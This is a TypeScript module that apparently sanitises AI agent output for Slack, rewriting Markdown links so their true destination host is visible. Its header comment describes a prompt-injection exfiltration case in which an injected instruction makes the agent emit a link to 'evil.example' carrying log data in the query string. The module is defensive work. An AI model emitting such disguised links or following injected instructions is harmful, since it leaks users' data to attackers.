/**
 * Where a link in agent output goes must be visible (DESIGN "Thread context is quoted data"): an
 * injected instruction can make the agent write `[docs](https://evil.example/?q=<log data>)`, and
 * Slack's `markdown` block shows only the label. So a link labelled with words shows its host in
 * the label (`[docs (x.example)](https://x.example/a?q=1)`: no cut separates them, and the
 * plain-text fallback keeps it); a label reading as another address, or a target that is no web
 * address, is unlinked as `label (target)`; a link labelled with its own address or host stays;
 * a reference definition (`[1]: https://…`) is escaped so no `[docs][1]` skips these rules.
 * Images (`![alt](src)`) follow the same rules: Slack's markdown block shows them as links.
 */

/** `[label](target)`, `[label](<target>)`, `[label](target "title")`; one level of brackets in the label. */
const MARKDOWN_LINK =
  /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])+)\]\(\s*(<[^<>\n]*>|[^\s()<>]+(?:\([^\s()]*\)[^\s()<>]*)*)(\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)/g;

/**
 * A CommonMark reference definition (`[1]: https://…`) whose destination has a scheme or starts
 * with `www.` or `//`; a log line such as `[INFO]: started` is not one.
 */
const REFERENCE_DEFINITION =
  /^( {0,3})\[((?:[^[\]\n]|\\[[\]])+)\]:(?=[ \t]*<?(?:[a-z][a-z0-9+.-]*:|www\.|\/\/))/gim;

/** A scheme URL, `www.`-something, or a dotted host name ending in a letters-only TLD (with an optional path). */
const ADDRESS_LIKE =
  /^(?:[a-z][a-z0-9+.-]*:\/\/\S+|www\.\S+|(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}(?::\d+)?(?:[/?#]\S*)?|mailto:\S+)$/i;

/** The label as a reader sees it: emphasis, code marks and surrounding `<>` taken off. */
function bareLabel(label: string): string {
  return label
    .trim()
    .replace(/^[*_~`]+|[*_~`]+$/g, '')
    .replace(/^<(.*)>$/, '$1')
    .trim();
}

/** `part` of a URL, lower case; undefined when it is empty or the text is no URL. */
function urlPart(url: string, part: 'host' | 'hostname'): string | undefined {
  try {
    return new URL(url)[part].toLowerCase() || undefined;
  } catch {
    return undefined;
  }
}

/** The host an address names (lower case, no `www.`), or undefined when it names none. */
export function hostOf(address: string): string | undefined {
  const withScheme = /^[a-z][a-z0-9+.-]*:/i.test(address) ? address : `https://${address}`;
  return urlPart(withScheme, 'hostname')?.replace(/^www\./, '') || undefined;
}

/**
 * The host to show for a web address (`http:`/`https:`), as the browser will reach it: `host`
 * keeps a non-default port; an internationalised name shows as punycode (no look-alikes).
 */
const webHost = (target: string) => (/^https?:\/\//i.test(target) ? urlPart(target, 'host') : undefined);

/** True when `label` reads as an address of another host than `target` (or target has none). */
export function isDisguised(label: string, target: string): boolean {
  const shown = bareLabel(label);
  if (!ADDRESS_LIKE.test(shown)) return false;
  const shownHost = shown.toLowerCase().startsWith('mailto:') ? shown.toLowerCase() : hostOf(shown);
  const targetHost = target.toLowerCase().startsWith('mailto:') ? target.toLowerCase() : hostOf(target);
  return shownHost === undefined || targetHost === undefined || shownHost !== targetHost;
}

/** The label is the target, or the target without its scheme (`a@b.example` for `mailto:a@b.example`). */
function isOwnAddress(label: string, target: string): boolean {
  const shown = bareLabel(label).replace(/\/$/, '').toLowerCase();
  const address = target.replace(/\/$/, '').toLowerCase();
  return shown === address || shown === address.replace(/^(?:https?:\/\/|mailto:|tel:)/, '');
}

/** True when some word of the label is an address on the target's own host ("docs (x.example)"). */
function labelNamesHost(label: string, target: string): boolean {
  const targetHost = hostOf(target);
  if (targetHost === undefined) return false;
  return label
    .split(/\s+/)
    .map((word) => word.replace(/^[^a-z0-9]+|[^a-z0-9/]+$/gi, ''))
    .some((word) => ADDRESS_LIKE.test(word) && hostOf(word) === targetHost);
}

type Rewrite = (link: string, bang: string, label: string, target: string, title: string) => string;

function rewriteLinks(text: string, rewrite: Rewrite): string {
  return text.replace(
    MARKDOWN_LINK,
    (link: string, bang: string, label: string, rawTarget: string, title: string | undefined) =>
      rewrite(link, bang, label, rawTarget.replace(/^<|>$/g, ''), title ?? ''),
  );
}

/** Rewrites every disguised Markdown link in prose (not code) as `label (target)`. Images stay. */
export const revealDisguisedLinks = (text: string): string =>
  rewriteLinks(text, (link, bang, label, target) =>
    !bang && isDisguised(label, target) ? `${label} (${target})` : link,
  );

/** Every Markdown link in prose (not code) made to show where it goes; idempotent. */
export function showLinkHosts(text: string): string {
  const linked = rewriteLinks(text, (link, bang, label, target, title) => {
    if (isOwnAddress(label, target)) return link;
    if (isDisguised(label, target)) return `${label} (${target})`;
    if (ADDRESS_LIKE.test(bareLabel(label))) return link; // its own address, or its own host
    const host = webHost(target);
    if (host === undefined) return `${label} (${target})`;
    if (labelNamesHost(label, target)) return link;
    return `${bang}[${label} (${host})](${target.includes(' ') ? `<${target}>` : target}${title})`;
  });
  return linked.replace(
    REFERENCE_DEFINITION,
    (_definition, indent: string, label: string) => `${indent}\\[${label}]:`,
  );
}
